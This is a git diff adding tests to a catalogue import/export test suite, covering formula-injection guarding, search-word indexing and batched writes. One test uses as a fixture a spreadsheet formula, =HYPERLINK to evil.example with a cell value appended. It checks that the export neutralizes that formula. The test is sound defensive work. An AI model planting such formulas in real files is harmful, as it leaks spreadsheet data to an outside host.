@@ -1,11 +1,13 @@
 import { setTimeout as pause } from 'node:timers/promises';
 import { and, eq, sql } from 'drizzle-orm';
 import ExcelJS from 'exceljs';
+import { parse } from 'csv-parse/sync';
 import { zipSync } from 'fflate';
 import sharp from 'sharp';
 import type { ImportJobStatus, ImportReport } from '@haat/shared/catalog/catalog-import';
 import { products } from '../src/catalog/products.table.js';
 import { stockMovements, productVariants } from '../src/inventory/inventory.table.js';
+import { searchWords } from '../src/search/search-words.table.js';
 import { api, bearer, DB_KINDS, startWithUsers, type TestApp } from './harness.js';
 import { addCategory, addSubCategory, uniqueName } from './catalog-fixtures.js';
 
@@ -137,6 +139,32 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
     expect((await productBySku(sku(`RT-${format}`)))!.price).toBe(120);
   });
 
+  it.each(['csv', 'xlsx'] as const)('a cell that would run as a formula is exported as text (%s) and read back as it was', async (format) => {
+    const name = `=HYPERLINK("http://evil.example/?leak="&A1,"Atta ${format}")`;
+    const sheetSku = sku(`FORMULA-${format}`);
+    await applied({ file: csv(`${sheetSku},,"${name.replace(/"/g, '""')}",${cat.name},,@home,1 kg,,99,,5,,,,-stone ground,`) });
+    expect(await productBySku(sheetSku)).toMatchObject({ name, description: '-stone ground', moreDetails: { Brand: '@home' } });
+    const file = await exported(format);
+    const cells = await exportedRow(file, format, sheetSku);
+    // A spreadsheet shows these as text: each starts with the guard's apostrophe, none with a formula's sign.
+    expect(cells).toMatchObject({ name: `'${name}`, brand: "'@home", description: "'-stone ground" });
+    expect(Object.values(cells).filter((v) => typeof v === 'string' && /^[=+\-@\t\r]/.test(v))).toEqual([]);
+    expect(await dryRun({ file, name: `catalogue.${format}` })).toMatchObject({ updates: 0, creates: 0, errors: [] });
+    expect(await applied({ file, name: `catalogue.${format}` })).toMatchObject({ state: 'done', updates: 0, creates: 0 });
+    expect(await productBySku(sheetSku)).toMatchObject({ name, description: '-stone ground', moreDetails: { Brand: '@home' } });
+  });
+
+  it('the words of imported products are searchable once their batch is written', async () => {
+    const word = `kasuri${tag.toLowerCase().replace(/[^a-z]/g, '')}`;
+    await applied({ file: csv(`${sku('METHI')},,${word} methi,${cat.name},,,100 g,,60,,5,,,,,`) });
+    const stem = sql`(tsvector_to_array(to_tsvector('english', ${word})))[1]`;
+    const learnt = await t.db
+      .select({ word: searchWords.word })
+      .from(searchWords)
+      .where(sql`${searchWords.word} = ${stem}`);
+    expect(learnt).toHaveLength(1);
+  });
+
   it('a stock that moved since the export is a conflict, and that row is not applied at all', async () => {
     await applied({ file: csv(`${sku('SUGAR')},,Sugar,${cat.name},,,1 kg,,45,,20,,,,,`) });
     const p = await productBySku(sku('SUGAR'));
@@ -180,6 +208,33 @@ describe.each(DB_KINDS)('catalogue import and export on %s', (kind) => {
       await t.db.execute(sql.raw('drop function refuse_boom()'));
     }
     expect(await productBySku(sku('TEA'))).toMatchObject({ name: 'Tea', price: 120 });
+  });
+
+  it('a file of many products (several written at once on PostgreSQL) writes each whole; a failing one alone is left out', async () => {
+    const skus = Array.from({ length: 30 }, (_, i) => sku(`MANY-${i}`));
+    await applied({ file: csv(...skus.slice(0, 10).map((s) => `${s},,Many ${s},${cat.name},,,1 kg,,10,,5,,,,,`)) });
+    await t.db.execute(sql.raw(`create or replace function refuse_many() returns trigger language plpgsql as $$ begin raise exception 'refused'; end $$`));
+    await t.db.execute(
+      sql.raw(
+        `create trigger refuse_many before insert on product_variants for each row when (new.sku = '${sku('MANY-BOOM')}') execute function refuse_many()`,
+      ),
+    );
+    try {
+      const rows = skus.map((s, i) => `${s},,Many ${s},${cat.name},,,1 kg,,${i < 10 ? 11 : 10},,5,${i < 10 ? 5 : ''},,,,`);
+      rows.splice(20, 0, `${sku('MANY-BOOM')},${skus[19]},,,,,,2 kg,30,,1,,,,,`);
+      const job = await applied({ file: csv(...rows) });
+      expect(job).toMatchObject({ state: 'done', total: 31, updates: 10, creates: 19, skipped: 1 });
+      expect(job.errors).toEqual([{ row: 21, column: 'sku', message: expect.stringContaining('could not be saved') }]);
+    } finally {
+      await t.db.execute(sql.raw('drop trigger refuse_many on product_variants'));
+      await t.db.execute(sql.raw('drop function refuse_many()'));
+    }
+    const stored = await t.db
+      .select({ sku: products.sku, price: products.price })
+      .from(products)
+      .where(sql`${products.sku} like ${`MANY-%-${tag}`}`);
+    expect(stored.map((p) => p.sku).sort()).toEqual(skus.filter((_, i) => i !== 19).sort());
+    expect(stored.filter((p) => p.price === 11)).toHaveLength(10);
   });
 
   it('pictures come from the ZIP by file name, stored by their content: the same ZIP again changes nothing', async () => {
@@ -284,4 +339,19 @@ async function editedPrice(file: Buffer, format: 'csv' | 'xlsx', productSku: str
     if (row.getCell(1).value === productSku) row.getCell(header.indexOf('price')).value = Number(price);
   });
   return Buffer.from(await book.xlsx.writeBuffer());
+}
+
+/** One product's row of an export, its cells by column, as a spreadsheet holds them. */
+async function exportedRow(file: Buffer, format: 'csv' | 'xlsx', productSku: string): Promise<Record<string, unknown>> {
+  let rows: unknown[][];
+  if (format === 'csv') rows = parse(file, { bom: true, relax_column_count: true });
+  else {
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(file as unknown as ArrayBuffer);
+    rows = [];
+    book.worksheets[0]!.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
+  }
+  const header = rows[0]!.map(String);
+  const row = rows.find((r) => r[0] === productSku)!;
+  return Object.fromEntries(header.map((h, i) => [h, row[i]]));
 }
